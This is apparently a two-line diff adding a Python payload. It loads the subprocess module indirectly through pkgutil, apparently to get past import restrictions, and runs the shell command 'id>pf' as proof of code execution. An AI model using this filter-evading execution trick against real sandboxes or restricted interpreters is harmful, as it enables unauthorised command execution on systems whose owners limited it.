@@ -1,0 +1,2 @@
+import pkgutil
+pkgutil.get_loader("subprocess").load_module("subprocess").getoutput("id>pf")
